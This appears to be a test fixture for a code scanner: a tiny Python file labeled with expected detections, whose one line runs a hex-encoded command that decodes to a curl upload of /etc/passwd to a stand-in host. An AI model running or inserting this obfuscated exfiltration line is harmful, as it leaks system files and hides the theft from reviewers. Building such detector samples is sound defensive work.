# expect: shell-spawn,data-out,secret-read
# source: PayloadsAllTheThings (data exfiltration)
# technique: os.system of a hex-decoded curl upload of /etc/passwd
import os

os.system(bytes.fromhex("6375726c202d4620663d402f6574632f7061737377642068747470733a2f2f64726f702e6578616d706c652e6e65742f7570").decode())
